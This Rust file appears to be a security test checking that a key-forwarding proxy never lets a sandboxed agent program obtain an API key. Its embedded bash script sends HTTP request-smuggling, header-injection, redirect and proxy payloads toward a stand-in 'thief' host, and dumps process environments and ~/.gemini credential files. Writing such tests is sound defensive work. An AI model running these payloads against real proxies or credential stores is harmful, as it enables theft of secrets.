//! A key that is added outside: whatever runs inside can use it, and cannot have it.

use crate::Attack;
use crate::attacks;
use crate::ground::Ground;
use anyhow::{Context, Result, ensure};
use foreman_testkit::{LiveRun, repos};
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::process::Stdio;

const VALUE: &str = "e106-Correct-Horse-Battery";

pub fn attacks() -> Vec<Attack> {
    attacks![["E106"] a_caged_program_cannot_get_the_key_out_of_the_forwarder]
}

/// Each asks the forwarder in a way that might have it say the key, or send it elsewhere; all that comes back is kept.
const SCRIPT: &str = r#"#!/bin/bash
base=$GOOGLE_GEMINI_BASE_URL
ask() { echo "== $1" >> got.txt; shift; curl -sS -i -m 20 "$@" >> got.txt 2>&1; echo >> got.txt; }
raw() { echo "== $1" >> got.txt; exec 3<>/dev/tcp/key/80 || return; printf "$2" >&3; timeout 5 cat <&3 >> got.txt; exec 3>&-; }
ask echo $base/echo
ask body -d 'x=y' $base/echo
ask compressed -H 'Accept-Encoding: gzip' $base/echo
ask range -H 'Range: bytes=0-400' $base/echo
ask head -I $base/echo
ask redirect -L "$base/redirect?https://thief.e106.amended.example/"
ask plain-redirect -L "$base/redirect?http://thief.e106.amended.example/"
ask trace -X TRACE $base/
ask track -X TRACK $base/
ask host -H 'Host: thief.e106.amended.example' $base/
ask absolute --request-target http://thief.e106.amended.example/ $base/
ask secure-absolute --request-target https://thief.e106.amended.example/ $base/
ask proxy -x $base http://thief.e106.amended.example/
ask tunnel -p -x $base http://thief.e106.amended.example:443/
ask at --request-target '@thief.e106.amended.example/' $base/
ask slashes --path-as-is --request-target '//thief.e106.amended.example/' $base/
ask forwarded -H 'X-Forwarded-Host: thief.e106.amended.example' -H 'Forwarded: host=thief.e106.amended.example' $base/
ask own-key -H 'X-Goog-Api-Key: mine' -H 'x-goog-api-key: other' $base/echo
ask drop -H 'Connection: x-goog-api-key, close' $base/echo
ask upgrade -H 'Connection: Upgrade' -H 'Upgrade: websocket' $base/
ask h2c --http2 $base/
ask prior --http2-prior-knowledge $base/
ask secure -k https://key/
raw injected 'GET /echo HTTP/1.1\r\nHost: key\r\nX-A: b\rHost: thief.e106.amended.example\r\n\r\n'
raw folded 'GET /echo HTTP/1.1\r\nHost: key\r\nX-A: b\r\n Host: thief.e106.amended.example\r\n\r\n'
raw two-hosts 'GET /echo HTTP/1.1\r\nHost: key\r\nHost: thief.e106.amended.example\r\n\r\n'
raw old 'GET http://thief.e106.amended.example/ HTTP/1.0\r\n\r\n'
raw smuggled 'POST /echo HTTP/1.1\r\nHost: key\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: thief.e106.amended.example\r\n\r\n'
raw lengths 'POST /echo HTTP/1.1\r\nHost: key\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: thief.e106.amended.example\r\n\r\n'
raw hello '\x16\x03\x01\x00\x05hello\r\n\r\n'
raw unfinished 'GET /echo HTTP/1.1\r\nHost: key\r\nX-'
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline >> got.txt 2>/dev/null
env >> got.txt; cat ~/.gemini/* >> got.txt 2>/dev/null
true
"#;

fn a_caged_program_cannot_get_the_key_out_of_the_forwarder(ground: &Ground<'_>) -> Result<()> {
    let (bench, world) = (&ground.stage.bench, &ground.stage.world);
    let bin = bench.scratch("e106-bin")?;
    bench.write(&bin.join("gemini"), SCRIPT)?;
    fs::set_permissions(bin.join("gemini"), fs::Permissions::from_mode(0o755))?;
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.display());
    let product = ground
        .stage
        .product()?
        .with_data(&bench.scratch("e106-data")?)
        .with_variable("PATH", &path)
        .with_variable("SSL_CERT_FILE", &world.authority().display().to_string());
    let mut setting = product
        .foreman(["secret", "set", "E106", "--store", "file"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()?;
    setting
        .stdin
        .take()
        .context("a pipe")?
        .write_all(VALUE.as_bytes())?;
    ensure!(setting.wait()?.success(), "the key was not kept");
    let repo = repos::plain(bench, "e106")?.display().to_string();
    // The other host is open to the run: so nothing but the forwarder keeps the key from it.
    let run = LiveRun::start(product.foreman([
        "run",
        "--json",
        "--repo",
        &repo,
        "--agent",
        "gemini",
        "--key",
        "E106=model.e106.amended.example",
        "--allow",
        "model.e106.amended.example:443",
        "--allow",
        "thief.e106.amended.example:80",
        "--allow",
        "thief.e106.amended.example:443",
        "go on",
    ]))?;
    run.ended()?;
    let view = product.show(&run.id()?)?;
    let tree = std::path::PathBuf::from(view["worktree"].as_str().context("no worktree")?);
    let got = String::from_utf8_lossy(&fs::read(tree.join("got.txt"))?).into_owned();
    ensure!(
        got.contains("== unfinished"),
        "the attack did not come to its end: {got}"
    );
    ensure!(
        got.contains("‹secret E106›"),
        "the host did not say the key, so nothing was tried: {got}"
    );
    ensure!(!got.contains(VALUE), "{got}");
    let asked = world.asked("model.e106.amended.example")?;
    ensure!(
        asked.iter().any(|head| head.contains(VALUE)),
        "the host never got the key"
    );
    for head in &asked {
        let lower = head.to_ascii_lowercase();
        ensure!(lower.matches("x-goog-api-key:").count() == 1, "{head}");
        ensure!(
            lower.contains("\r\nhost: model.e106.amended.example\r\n"),
            "{head}"
        );
        ensure!(!lower.contains("smuggled"), "{head}");
    }
    let elsewhere = world.asked_all()?;
    let thief = elsewhere
        .iter()
        .filter(|head| !head.contains("host: model.e106.amended.example\r\n"));
    for head in thief {
        ensure!(!head.contains(VALUE), "sent elsewhere: {head}");
    }
    for seen in world.seen()? {
        ensure!(!seen.head.contains(VALUE), "sent in the open: {seen:?}");
    }
    let story = product.call(["events", &run.id()?, "--json"])?.stdout;
    ensure!(!story.contains(VALUE), "{story}");
    Ok(())
}
